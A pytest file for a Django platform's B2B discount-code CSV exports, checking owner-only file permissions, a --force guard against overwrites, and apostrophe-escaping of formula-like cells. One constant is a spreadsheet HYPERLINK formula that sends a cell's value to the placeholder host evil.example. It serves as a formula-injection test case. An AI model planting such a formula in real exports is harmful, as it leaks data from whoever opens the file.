"""The codes CSV is a file of bearer secrets, and every CSV is opened in spreadsheets.

- `b2b_list contracts --codes` never overwrites a file without --force, writes it whole (through a
  hidden temporary file, renamed) and readable by its owner only (an interrupted export is in
  tests/config/test_command_errors.py: a real dropped connection);
- text cells that a spreadsheet would run as a formula get an apostrophe in front, in the codes
  file, in `b2b_list --format csv` and in the staff download from Wagtail alike.
"""

import csv
import io
import stat

import pytest
from django.core.management.base import CommandError
from django.urls import reverse

from courses.models import CourseRun
from tests.b2b.helpers import codes, contract_with_products, reconcile, redeem
from tests.support import factories as f

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"Click for certificate")'


def _rows(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _mode(path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_an_existing_file_is_replaced_only_with_force(run_command, tmp_path):
    contract, _ = contract_with_products(products=1, max_learners=2)
    reconcile(contract)
    target = tmp_path / "codes.csv"
    target.write_text("the codes already sent to the customer\n")
    target.chmod(0o644)

    with pytest.raises(CommandError) as refused:
        run_command(
            "b2b_list", "contracts", "--codes", str(contract.pk), "--codes-out", str(target)
        )
    assert str(refused.value) == f"{target} already exists; add --force to replace it"
    assert target.read_text() == "the codes already sent to the customer\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["codes.csv"]

    out, _ = run_command(
        "b2b_list", "contracts", "--codes", str(contract.pk), "--codes-out", str(target), "--force"
    )
    assert out == f"Wrote 2 codes of contract {contract.pk} to {target}\n"
    assert len(_rows(target)) == 3
    assert _mode(target) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["codes.csv"]


def test_the_default_file_is_owner_only_and_not_overwritten(run_command, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    contract, _ = contract_with_products(products=1, max_learners=2)
    reconcile(contract)
    default = tmp_path / f"codes-{contract.pk}.csv"

    run_command("b2b_list", "courses", "--codes", str(contract.pk))
    assert _mode(default) == 0o600
    first = default.read_text()

    with pytest.raises(CommandError, match=r"already exists; add --force to replace it$"):
        run_command("b2b_list", "courses", "--codes", str(contract.pk))
    assert default.read_text() == first
    assert sorted(p.name for p in tmp_path.iterdir()) == [default.name]


def test_force_needs_codes(run_command):
    with pytest.raises(CommandError, match=r"^--force needs --codes <contract id>$"):
        run_command("b2b_list", "contracts", "--force")


def _contract_with_formulas():
    """A contract whose run title and a redeemer's e-mail start like spreadsheet formulas."""
    contract, (product,) = contract_with_products(products=1, max_learners=2)
    CourseRun.objects.filter(pk=product.object_id).update(title=FORMULA)
    reconcile(contract)
    redeem(codes(product).order_by("pk").first(), f.UserFactory(email="-2+3@example.com"))
    run = CourseRun.objects.get(pk=product.object_id)
    return contract, product, run


def _expected_body(contract, product, run):
    used, unused = codes(product).order_by("pk")
    url = f"http://testserver/cart/add/?product_id={product.pk}"
    label = f"'{FORMULA} ({run.courseware_id})"
    return [
        [used.discount_code, label, "'-2+3@example.com", url],
        [unused.discount_code, label, "No", url],
    ]


def test_the_codes_file_neutralises_formulas(run_command, tmp_path, settings):
    settings.SITE_BASE_URL = "http://testserver"
    contract, product, run = _contract_with_formulas()
    target = tmp_path / "codes.csv"
    run_command("b2b_list", "contracts", "--codes", str(contract.pk), "--codes-out", str(target))
    rows = _rows(target)
    assert rows[0] == ["Code", "Product", "Redeemed", "Product URL"]
    assert rows[1:] == _expected_body(contract, product, run)


def test_the_staff_download_neutralises_formulas(client, site_tree, settings):
    settings.SITE_BASE_URL = "http://testserver"
    contract, product, run = _contract_with_formulas()
    client.force_login(f.UserFactory(is_staff=True, is_superuser=True))
    response = client.get(reverse("b2b_contract_codes_csv", args=[contract.pk]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["Code", "Product", "Redeemed", "Product URL"]
    assert rows[1:] == _expected_body(contract, product, run)


def test_listings_in_csv_neutralise_formulas(run_command):
    org = f.OrganizationPageFactory(title="@Acme", org_key="ACME")
    contract = f.ContractPageFactory(parent=org, title="+Main", slug="main")
    out, _ = run_command("b2b_list", "contracts", "--format", "csv")
    header, row = list(csv.reader(io.StringIO(out)))
    values = dict(zip(header, row, strict=True))
    assert (values["id"], values["name"], values["organization"]) == (
        str(contract.pk),
        "'+Main",
        "'@Acme",
    )
    out, _ = run_command("b2b_list", "organizations", "--format", "csv")
    header, row = list(csv.reader(io.StringIO(out)))
    assert dict(zip(header, row, strict=True))["name"] == "'@Acme"
